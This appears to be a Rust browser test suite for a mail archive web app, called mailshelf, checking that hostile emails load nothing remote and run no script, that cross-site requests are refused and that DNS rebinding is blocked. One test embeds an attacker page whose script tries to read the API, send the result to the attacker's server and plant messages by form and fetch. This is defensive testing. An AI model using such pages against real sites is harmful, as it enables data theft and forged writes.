//! Headless Chromium against a real socket: what the browser actually fetched, from mailshelf and
//! from a second local server that stands in for the internet. Hostile messages must make no
//! request to the stand-in and run no script; legitimate ones must load every resource they carry.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use axum::extract::{Request, State};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Response};
use axum::Router;
use tokio::net::TcpListener;

use crate::common::cdp::Browser;
use crate::common::{message_with_pictures, repo_path, TestApp};

pub type Log = Arc<Mutex<Vec<String>>>;

async fn record(State(log): State<Log>, req: Request, next: Next) -> Response {
    let uri = req.uri().to_string();
    log.lock().expect("log").push(uri);
    next.run(req).await
}

/// Serves `router` on 127.0.0.1 with a free port, logging every request's path and query.
pub async fn serve(router: Router) -> (String, Log) {
    serve_on("127.0.0.1", router).await
}

/// As [`serve`], on another loopback address (a different origin and site to the browser).
async fn serve_on(ip: &str, router: Router) -> (String, Log) {
    let log: Log = Arc::default();
    let router = router.layer(middleware::from_fn_with_state(log.clone(), record));
    let listener = TcpListener::bind((ip, 0)).await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, router).await;
    });
    (format!("http://{addr}"), log)
}

/// The stand-in for the internet: answers anything with a small image, stylesheet or page.
pub async fn internet() -> (String, Log) {
    let router = Router::new().fallback(|req: Request| async move {
        let path = req.uri().path().to_string();
        let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82";
        if path.ends_with(".css") {
            ([("content-type", "text/css")], "body{background:url(/css-followup.png)}").into_response()
        } else if path == "/control.html" {
            let page = "<img src='/control-img.png'><script>fetch('/control-script')</script>";
            ([("content-type", "text/html")], page).into_response()
        } else if path.ends_with(".html") {
            ([("content-type", "text/html")], "<p>remote page</p>").into_response()
        } else {
            ([("content-type", "image/png")], png).into_response()
        }
    });
    serve(router).await
}

fn chromium() -> PathBuf {
    crate::common::cdp::chromium()
}

/// Loads `url` in a fresh headless Chromium, lets it settle, and returns the DOM it ended with.
async fn load(url: &str) -> String {
    load_with(url, &[]).await
}

/// As [`load`], with more command-line switches for Chromium.
async fn load_with(url: &str, extra: &[&str]) -> String {
    let browser = chromium();
    let url = url.to_string();
    let extra: Vec<String> = extra.iter().map(|s| s.to_string()).collect();
    tokio::task::spawn_blocking(move || {
        let profile = tempfile::tempdir().expect("profile dir");
        let out = Command::new("timeout")
            .arg("90")
            .arg(browser)
            .args(crate::common::cdp::HEADLESS)
            .args(["--virtual-time-budget=8000", "--run-all-compositor-stages-before-draw", "--window-size=1200,2000"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(&extra)
            .arg("--dump-dom")
            .arg(&url)
            .output()
            .expect("chromium runs");
        let stderr = String::from_utf8_lossy(&out.stderr);
        // A part answered as an attachment is saved, not shown: Chromium says its page's load
        // was aborted, and there is no page to show.
        if !out.status.success() && stderr.contains("Page load failed: net::ERR_ABORTED") {
            return String::new();
        }
        assert!(out.status.success(), "chromium failed on {url}: {stderr}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    })
    .await
    .expect("join")
}

/// Writes the hostile templates with the stand-in's address filled in.
pub fn hostile_messages(dir: &Path, remote: &str) -> Vec<PathBuf> {
    let hostport = remote.trim_start_matches("http://");
    let mut out = Vec::new();
    let src = repo_path("tests/fixtures/hostile");
    let mut names: Vec<_> = std::fs::read_dir(&src).expect("hostile fixtures").flatten().map(|e| e.path()).collect();
    names.sort();
    for p in names.into_iter().filter(|p| p.extension().is_some_and(|e| e == "eml")) {
        let text = std::fs::read_to_string(&p).expect("read");
        let text = text.replace("{{REMOTE}}", remote).replace("{{REMOTE_HOSTPORT}}", hostport);
        let dest = dir.join(p.file_name().expect("name"));
        std::fs::write(&dest, text).expect("write");
        out.push(dest);
    }
    assert!(out.len() >= 5, "hostile fixtures: {}", out.len());
    out
}

pub fn requested(log: &Log) -> Vec<String> {
    log.lock().expect("log").clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sample_resources_really_load() {
    if !crate::common::needs::chromium("sample_resources_really_load") {
        return;
    }
    let app = TestApp::new(&[repo_path("samples")]);
    let (base, log) = serve(app.router.clone()).await;
    let cases: &[(&str, &[&str])] = &[
        (
            "/message/newsletter-2026-10@example.com",
            &[
                "/part/newsletter-2026-10@example.com/logo@example.com",
                "/part/newsletter-2026-10@example.com/bg@example.com",
                "/part/newsletter-2026-10@example.com/banner@example.com",
            ],
        ),
        ("/message/fwd-5b2c9a@example.net", &["/part/original-2026@example.net/"]),
    ];
    let mut b = Browser::launch();
    b.watch_network();
    for (page, wanted) in cases {
        b.goto(&format!("{base}{page}"));
        for w in *wanted {
            let answer = b.wait_response(w);
            assert_eq!(answer["status"], 200, "{page} loaded {w}: {answer:#}");
        }
    }
    // The saved page: its stylesheet, the images it and its CSS name, its frame and the frame's image.
    let saved = app.json("/api/messages?limit=100").await["messages"]
        .as_array()
        .expect("list")
        .iter()
        .find(|m| m["subject"] == "Field notes: a week in the hills")
        .map(|m| m["id"].as_str().expect("id").to_string())
        .expect("saved page listed");
    b.goto(&format!("{base}/message/{saved}"));
    let detail = app.json(&format!("/api/messages/{saved}")).await;
    let mut wanted = Vec::new();
    let mut stack = vec![&detail["parts"][0]];
    while let Some(p) = stack.pop() {
        let loc = p["content_location"].as_str().unwrap_or("");
        if ["site.css", "photo.png", "bg.png", "sidebar.html", "icon.gif"].iter().any(|n| loc.ends_with(n)) {
            wanted.push(p["url"].as_str().expect("url").to_string());
        }
        stack.extend(p["parts"].as_array().expect("parts"));
    }
    assert_eq!(wanted.len(), 5, "{detail:#}");
    for w in &wanted {
        let answer = b.wait_response(w);
        assert_eq!(answer["status"], 200, "saved page loaded {w}: {answer:#}");
    }
    // And the server saw each of them: the browser did not answer from anywhere else.
    let got = requested(&log);
    for w in &wanted {
        assert!(got.iter().any(|g| g.starts_with(w.as_str())), "server never asked for {w}: {got:#?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_messages_load_nothing_remote_and_run_nothing() {
    if !crate::common::needs::chromium("hostile_messages_load_nothing_remote_and_run_nothing") {
        return;
    }
    let (remote, remote_log) = internet().await;
    let dir = tempfile::tempdir().expect("dir");
    let files = hostile_messages(dir.path(), &remote);
    let app = TestApp::new(&[dir.path().to_path_buf()]);
    let (base, local_log) = serve(app.router.clone()).await;
    let list = app.json("/api/messages?limit=100").await;
    let ids: Vec<String> =
        list["messages"].as_array().expect("list").iter().map(|m| m["id"].as_str().expect("id").to_string()).collect();
    assert_eq!(ids.len(), files.len(), "every hostile message is listed");
    let mut pages = Vec::new();
    for id in &ids {
        pages.push(format!("{base}/message/{id}"));
        pages.push(format!("{base}/message/{id}?view=text"));
        // The print view inlines the body instead of framing it: held to the same rules.
        pages.push(format!("{base}/message/{id}/print"));
        // Every part opened directly, as a user clicking "open" would.
        let detail = app.json(&format!("/api/messages/{id}")).await;
        let mut stack = vec![&detail["parts"][0]];
        while let Some(p) = stack.pop() {
            if p["parts"].as_array().is_some_and(|c| c.is_empty()) {
                pages.push(format!("{base}{}", p["url"].as_str().expect("url")));
            }
            stack.extend(p["parts"].as_array().expect("parts"));
        }
    }
    // A control: the same browser, on a page that is not protected, does reach the stand-in and
    // does run script — so silence below means protection, not a blind harness.
    load(&format!("{remote}/control.html")).await;
    let seen = requested(&remote_log);
    assert!(
        seen.iter().any(|r| r == "/control-img.png") && seen.iter().any(|r| r == "/control-script"),
        "the control page reached the stand-in: {seen:?}"
    );
    remote_log.lock().expect("log").clear();

    for page in &pages {
        load(page).await;
    }
    let leaked = requested(&remote_log);
    assert!(leaked.is_empty(), "requests reached the stand-in internet: {leaked:#?}");
    assert!(requested(&local_log).len() >= pages.len(), "the pages were loaded");
    println!("hostile: {} messages, {} pages and parts opened, 0 remote requests", ids.len(), pages.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn remote_content_loads_when_asked() {
    if !crate::common::needs::chromium("remote_content_loads_when_asked") {
        return;
    }
    let (remote, remote_log) = internet().await;
    let dir = tempfile::tempdir().expect("dir");
    hostile_messages(dir.path(), &remote);
    let app = TestApp::new(&[dir.path().to_path_buf()]);
    let (base, _) = serve(app.router.clone()).await;
    let page = app.get("/message/hostile-remote@test.invalid").await;
    let html = page.text();
    assert!(html.contains("remote resources blocked") || html.contains("remote resource blocked"), "{html}");
    assert!(html.contains("/message/hostile-remote@test.invalid?remote=1"));
    load(&format!("{base}/message/hostile-remote@test.invalid")).await;
    assert!(requested(&remote_log).is_empty(), "nothing loads before the user asks");
    load(&format!("{base}/message/hostile-remote@test.invalid?remote=1")).await;
    let got = requested(&remote_log);
    assert!(got.iter().any(|g| g == "/allowed-when-asked.png"), "the remote image loaded when asked: {got:#?}");
    assert!(!got.iter().any(|g| g.contains("script-ran")), "still nothing runs: {got:#?}");
    // The same for the print view, whose body is inline rather than framed.
    remote_log.lock().expect("log").clear();
    load(&format!("{base}/message/hostile-remote@test.invalid/print")).await;
    assert!(requested(&remote_log).is_empty(), "the print view loads nothing remote unasked");
    load(&format!("{base}/message/hostile-remote@test.invalid/print?remote=1")).await;
    let got = requested(&remote_log);
    assert!(got.iter().any(|g| g == "/allowed-when-asked.png"), "the print view loads it when asked: {got:#?}");
    assert!(!got.iter().any(|g| g.contains("script-ran")), "still nothing runs: {got:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_site_can_neither_read_nor_write() {
    if !crate::common::needs::chromium("another_site_can_neither_read_nor_write") {
        return;
    }
    let app = TestApp::new(&[repo_path("samples")]);
    let before = app.archive.index().listed_count();
    let (base, mailshelf_log) = serve(app.router.clone()).await;
    let port = base.rsplit(':').next().expect("port").to_string();
    // The attacker: a page on another loopback address (another origin and site) that tries to read
    // the API and to post an upload with a form, then reports what it could see.
    let attack = format!(
        r#"<!doctype html><body>
<script>
fetch("{base}/api/messages").then(r => r.text())
  .then(t => fetch("/report?read=" + encodeURIComponent(t.slice(0, 40))))
  .catch(() => fetch("/report?read-failed"));
fetch("{base}/api/messages", {{method: "POST", mode: "no-cors", headers: {{"content-type": "text/plain"}},
  body: "From: x@evil.example\r\nSubject: planted by fetch\r\n\r\nx"}})
  .then(() => fetch("/report?fetch-posted"));
</script>
<iframe name="sink"></iframe>
<form id="f" method="post" enctype="multipart/form-data" action="{base}/api/messages" target="sink">
<textarea name="file">From: x@evil.example
Subject: planted by form

x</textarea></form>
<script>document.getElementById("f").submit()</script>
</body>"#
    );
    let attacker = Router::new()
        .route("/attack.html", axum::routing::get(move || async move { axum::response::Html(attack.clone()) }))
        .fallback(|| async { "ok" });
    let (evil, evil_log) = serve_on("127.0.0.2", attacker).await;
    load(&format!("{evil}/attack.html")).await;
    let reports = requested(&evil_log);
    assert!(reports.iter().any(|r| r == "/report?read-failed"), "the read was blocked: {reports:#?}");
    assert!(!reports.iter().any(|r| r.starts_with("/report?read=")), "nothing was read: {reports:#?}");
    let posts = requested(&mailshelf_log).into_iter().filter(|r| r == "/api/messages").count();
    assert!(posts >= 2, "both writes reached the server, so their refusal is what is tested: {posts}");
    assert_eq!(app.archive.index().listed_count(), before, "nothing was planted");
    let planted = app.json("/api/messages?q=planted").await;
    assert_eq!(planted["total"], 0, "{planted}");

    // DNS rebinding: a name of the attacker's that resolves to 127.0.0.1 reaches the server, and
    // is answered with 421 and nothing else.
    let rule = "--host-resolver-rules=MAP rebind.example 127.0.0.1";
    for path in ["/api/messages", "/"] {
        let page = load_with(&format!("http://rebind.example:{port}{path}"), &[rule]).await;
        assert!(page.contains("Misdirected request") && page.contains("--allowed-host"), "{path}: {page}");
        assert!(!page.contains("Nouveaut") && !page.contains("newsletter"), "nothing of the archive: {page}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn external_image_loads_only_when_remote_content_is_allowed() {
    if !crate::common::needs::chromium("external_image_loads_only_when_remote_content_is_allowed") {
        return;
    }
    let (remote, remote_log) = internet().await;
    let dir = tempfile::tempdir().expect("dir");
    for name in ["remote-image.eml", "other-message.eml"] {
        let text =
            std::fs::read_to_string(repo_path(&format!("tests/fixtures/external/browser/{name}"))).expect("read");
        std::fs::write(dir.path().join(name), text.replace("{{REMOTE}}", &remote)).expect("write");
    }
    let app = TestApp::new(&[dir.path().to_path_buf()]);
    let (base, local_log) = serve(app.router.clone()).await;
    let chart_part = "/part/remote-image@external.test/chart@external.test";
    let detail = app.json("/api/messages/remote-image@external.test").await;
    assert_eq!(detail["parts"][0]["parts"][1]["external"]["url"], format!("{remote}/external-chart.png"));
    let page = app.get("/message/remote-image@external.test").await.text();
    assert!(page.contains("1 remote resource blocked"), "the external image is counted as remote: {page}");

    // Blocked: the image named by `cid:` is left out of the body; the one named through `mid:`
    // reaches the part's URL, whose 303 the frame's policy refuses to follow.
    load(&format!("{base}/message/remote-image@external.test")).await;
    load(&format!("{base}/message/other-message@external.test")).await;
    assert!(requested(&remote_log).is_empty(), "nothing loads before the user asks: {:#?}", requested(&remote_log));
    assert!(
        requested(&local_log).iter().any(|r| r == chart_part),
        "the browser did follow the mid: reference to the part: {:#?}",
        requested(&local_log)
    );

    // Allowed for the message: the image loads, by `cid:` and through the part's 303 alike.
    for id in ["remote-image@external.test", "other-message@external.test"] {
        remote_log.lock().expect("log").clear();
        load(&format!("{base}/message/{id}?remote=1")).await;
        let got = requested(&remote_log);
        assert_eq!(got, ["/external-chart.png"], "{id}: the external image loads when asked, and nothing else");
    }
}

/// The samples and a message with picture attachments, served on a loopback port.
async fn comfort_app() -> (TestApp, String, tempfile::TempDir) {
    let dir = tempfile::tempdir().expect("dir");
    std::fs::write(dir.path().join("pictures.eml"), message_with_pictures()).expect("write");
    let app = TestApp::new(&[repo_path("samples"), dir.path().to_path_buf()]);
    let (base, _) = serve(app.router.clone()).await;
    (app, base, dir)
}

/// Policy violations the top document saw, and console messages about scripts being refused.
fn refused(b: &mut Browser) -> Vec<String> {
    let mut out: Vec<String> =
        b.eval("window.__csp").as_array().expect("recorded").iter().map(|v| v.to_string()).collect();
    for e in b.events("Log.entryAdded") {
        let text = e["params"]["entry"]["text"].as_str().unwrap_or("").to_string();
        if text.contains("script-src") || text.contains("integrity") || text.contains("keys.js") {
            out.push(text);
        }
    }
    out
}

/// Where screenshots go: `target/screenshots/` (under `CARGO_TARGET_DIR` when set).
fn screenshot_dir() -> PathBuf {
    let out = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| repo_path("target"))
        .join("screenshots");
    std::fs::create_dir_all(&out).expect("screenshot dir");
    out
}

fn selected_row(b: &mut Browser) -> i64 {
    b.eval("[...document.querySelectorAll('table.list tbody tr')].findIndex(r => r.classList.contains('selected'))")
        .as_i64()
        .expect("index")
}

fn path(b: &mut Browser) -> String {
    b.eval("location.pathname").as_str().expect("path").to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keyboard_moves_through_the_list_and_messages_under_the_pages_policy() {
    if !crate::common::needs::chromium("keyboard_moves_through_the_list_and_messages_under_the_pages_policy") {
        return;
    }
    let (_app, base, _dir) = comfort_app().await;
    let mut b = Browser::launch();
    b.emulate(1280, 900, false, "light");
    b.goto(&format!("{base}/"));
    assert_eq!(selected_row(&mut b), -1, "nothing selected before a key");
    for (key, want) in [("j", 0), ("j", 1), ("j", 2), ("k", 1)] {
        b.press(key);
        assert_eq!(selected_row(&mut b), want, "after {key}");
    }
    std::fs::write(screenshot_dir().join("list-desktop-light-selected.png"), b.screenshot()).expect("write");
    b.press("/");
    assert_eq!(b.eval("document.activeElement.name"), "q", "/ focuses the search box");
    b.press("j");
    assert_eq!(selected_row(&mut b), 1, "typing j in the search box is typing");
    b.press("Escape");
    assert_eq!(b.eval("document.activeElement === document.body"), true, "Escape leaves the box");
    let second =
        b.eval("document.querySelector('tr.selected td.subject a').pathname").as_str().expect("href").to_string();
    assert!(refused(&mut b).is_empty(), "the list page ran its script without a violation: {:?}", refused(&mut b));

    b.press_and_wait("o");
    assert_eq!(path(&mut b), second, "o opens the selected message");
    let older = b.eval("document.querySelector('a[data-key=next]').pathname").as_str().expect("older").to_string();
    b.press_and_wait("j");
    assert_eq!(path(&mut b), older, "j on a message opens the next (older) one");
    b.press_and_wait("k");
    assert_eq!(path(&mut b), second, "k goes back up the list");
    assert!(refused(&mut b).is_empty(), "the message page ran its script without a violation: {:?}", refused(&mut b));
    b.press_and_wait("u");
    assert_eq!(path(&mut b), "/", "u returns to the list");

    // The message's frame never runs script, whatever the page's policy lets the page run.
    b.goto(&format!("{base}/message/newsletter-2026-10@example.com"));
    let frame_scripts = b.eval("document.querySelector('iframe.body').getAttribute('sandbox')");
    assert!(!frame_scripts.as_str().expect("sandbox").contains("allow-scripts"));
    assert_eq!(b.eval("getComputedStyle(document.querySelector('.keys-hint')).display"), "block", "keys are offered");

    // Without script the pages still do everything the keys do, through their links, and do not
    // offer keys that would not work.
    b.call("Emulation.setScriptExecutionDisabled", serde_json::json!({"value": true}));
    b.goto(&format!("{base}/message/newsletter-2026-10@example.com"));
    assert_eq!(b.eval("getComputedStyle(document.querySelector('.keys-hint')).display"), "none");
    let older = b.eval("document.querySelector('a[data-key=next]').href").as_str().expect("older link").to_string();
    b.goto(&older);
    assert_eq!(b.eval("location.href"), older.as_str(), "the Older link leads on");
    assert!(b.eval("document.querySelectorAll('a[data-key=prev], a[data-key=up]').length").as_i64() >= Some(2));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_fit_phone_and_desktop_in_light_and_dark() {
    if !crate::common::needs::chromium("pages_fit_phone_and_desktop_in_light_and_dark") {
        return;
    }
    let (_app, base, _dir) = comfort_app().await;
    let out = screenshot_dir();
    let pages = [
        ("list", "/".to_string()),
        ("message", "/message/pictures@example.com".to_string()),
        ("newsletter", "/message/newsletter-2026-10@example.com".to_string()),
        ("folder", "/folder/mbox/list-archive".to_string()),
        ("conversations", "/?threads=1".to_string()),
        ("conversation", "/thread/20261005094512.GA1187@alice.example.org".to_string()),
        ("overview", "/overview".to_string()),
    ];
    // Pages with a message body in a frame, and pages that are lists.
    let framed = |name: &str| matches!(name, "message" | "newsletter");
    let listing = |name: &str| matches!(name, "list" | "folder" | "conversations");
    let mut b = Browser::launch();
    let mut written = 0;
    for (device, width, height, mobile) in [("desktop", 1280, 900, false), ("phone", 390, 844, true)] {
        for scheme in ["light", "dark"] {
            b.emulate(width, height, mobile, scheme);
            for (name, page) in &pages {
                b.goto(&format!("{base}{page}"));
                let what = format!("{name} at {device} width, {scheme}");
                let overflow = b.eval("document.documentElement.scrollWidth - document.documentElement.clientWidth");
                assert_eq!(overflow, 0, "{what}: no horizontal scrolling");
                let bg = b.eval("getComputedStyle(document.body).backgroundColor");
                let want = if scheme == "dark" { "rgb(21, 25, 29)" } else { "rgb(255, 255, 255)" };
                assert_eq!(bg, want, "{what}: the theme follows prefers-color-scheme");
                if framed(name) {
                    let sheet = b.eval("getComputedStyle(document.querySelector('iframe.body')).backgroundColor");
                    assert_eq!(sheet, "rgb(255, 255, 255)", "{what}: the body sits on white in both themes");
                }
                if listing(name) && device == "phone" {
                    let head = b.eval("getComputedStyle(document.querySelector('table.list thead')).display");
                    assert_eq!(head, "none", "{what}: the list collapses into rows");
                }
                if *name == "overview" {
                    let charts =
                        b.eval("document.querySelectorAll('svg.chart rect.bar').length").as_i64().expect("bars");
                    assert!(charts > 5, "{what}: the charts are drawn ({charts} bars)");
                    let wide = b.eval("Math.max(...[...document.querySelectorAll('svg.chart')].map(s => s.getBoundingClientRect().width))");
                    assert!(wide.as_f64().expect("width") <= f64::from(width), "{what}: charts fit the page");
                }
                if *name == "conversation" {
                    let shown =
                        b.eval("document.querySelectorAll('.conversation article').length").as_i64().expect("n");
                    assert!(shown >= 3, "{what}: the whole thread on one page ({shown})");
                }
                if *name == "list" && device == "desktop" {
                    let tree =
                        b.eval("[...document.querySelectorAll('nav.sidebar li')].map(l => l.textContent.trim())");
                    assert!(tree.to_string().contains("list-archive"), "{what}: the folder tree: {tree}");
                }
                if *name == "message" {
                    let frame = b.eval("document.querySelector('iframe.body').offsetHeight").as_i64().expect("height");
                    assert!(frame < 300, "{what}: a one-line body gets a short frame, not {frame}px");
                    let thumbs = b.eval_async(
                        "Promise.all([...document.querySelectorAll('.attachments .thumb img')].map(i => { \
                           i.loading = 'eager'; \
                           return i.decode().then(() => [i.naturalWidth, i.naturalHeight], () => 'failed'); }))",
                    );
                    let thumbs = thumbs.as_array().expect("thumbnails");
                    assert_eq!(thumbs.len(), 8, "{what}");
                    assert_eq!(thumbs[0], serde_json::json!([240, 180]), "{what}: the photo's thumbnail");
                    assert!(thumbs.iter().all(|t| t != "failed"), "{what}: every picture or icon shows: {thumbs:?}");
                }
                assert!(refused(&mut b).is_empty(), "{what}: {:?}", refused(&mut b));
                let shot = b.screenshot();
                assert!(shot.starts_with(b"\x89PNG"), "{what}");
                std::fs::write(out.join(format!("{name}-{device}-{scheme}.png")), shot).expect("write");
                written += 1;
            }
        }
    }
    println!("{written} screenshots in {}", out.display());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_upload_form_lands_on_the_uploaded_message() {
    if !crate::common::needs::chromium("the_upload_form_lands_on_the_uploaded_message") {
        return;
    }
    let app = TestApp::new(&[repo_path("samples")]);
    let (base, log) = serve(app.router.clone()).await;
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("note.eml");
    std::fs::write(
        &file,
        "From: me@example.com\r\nSubject: Chosen in the browser\r\nMessage-ID: <browser-upload@example.com>\r\n\
         Date: Wed, 04 Nov 2026 08:00:00 +0000\r\n\r\nPicked with the file chooser.\r\n",
    )
    .expect("write");
    let mut b = Browser::launch();
    b.goto(&format!("{base}/"));
    b.choose_file("form.upload input[type=file]", &file);
    b.clear_events();
    b.eval("document.querySelector('form.upload').requestSubmit()");
    b.wait_event("Page.loadEventFired");
    let landed = b.eval("document.title + ': ' + document.body.innerText");
    assert_eq!(path(&mut b), "/message/browser-upload@example.com", "one file lands on its message: {landed}");
    assert!(b.eval("document.body.innerText").as_str().expect("text").contains("Picked with the file chooser"));
    assert!(requested(&log).iter().any(|r| r == "/api/messages"), "the form posted to the upload route");
    assert_eq!(app.json("/api/messages/browser-upload@example.com").await["uploaded"], true);
}

/// Signed in through the form, a reader sees a message's pictures: the parts a message's
/// sandboxed frame asks for are answered. A frame of an opaque origin makes those requests
/// cross-site, and Chromium withholds the `SameSite=Lax` session cookie from them
/// (`SchemefulSameSiteLax`: 401, no pictures); on a server people sign in to, the sandbox keeps the
/// frame's origin (still without script), so the cookie goes with them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signed_in_reader_sees_the_pictures_of_a_message() {
    let dir = tempfile::tempdir().expect("tempdir");
    let users = crate::scopes::users_file(dir.path());
    let app = TestApp::with_config(&[repo_path("samples")], |c| c.accounts.users = Some(users));
    let (base, _log) = serve(app.router.clone()).await;
    let page = "/message/newsletter-2026-10@example.com";
    let mut b = Browser::launch();
    b.watch_network();
    b.goto(&format!("{base}/login?next={}", page.replace('@', "%40")));
    b.clear_events();
    b.eval(
        "document.querySelector('input[name=name]').value = 'boss'; \
         document.querySelector('input[name=password]').value = 'boss-pw'; \
         document.querySelector('form[action=\"/login\"]').submit(); true",
    );
    let landed = b.wait_response(page);
    assert_eq!(landed["status"], 200, "{landed:#}");
    for part in ["logo@example.com", "bg@example.com", "banner@example.com"] {
        let answer = b.wait_response(&format!("/part/newsletter-2026-10@example.com/{part}"));
        assert_eq!(answer["status"], 200, "{part}: {answer:#}");
    }
    // Answered, and shown: every answer says only this origin may embed it
    // (`Cross-Origin-Resource-Policy`), which the frame, of this origin, is.
    let shown = b.eval_async(
        "new Promise(r => { const f = document.querySelector('iframe.body'); \
           const go = () => Promise.all([...f.contentDocument.images].map(i => \
             i.decode().then(() => i.naturalWidth, () => 'failed'))).then(r); \
           f.contentDocument && f.contentDocument.readyState === 'complete' ? go() : f.addEventListener('load', go); })",
    );
    let shown = shown.as_array().expect("pictures");
    assert!(!shown.is_empty() && shown.iter().all(|w| w.as_i64().is_some_and(|w| w > 0)), "{shown:?}");
    assert!(b.events("Network.loadingFailed").is_empty(), "{:?}", b.events("Network.loadingFailed"));
}
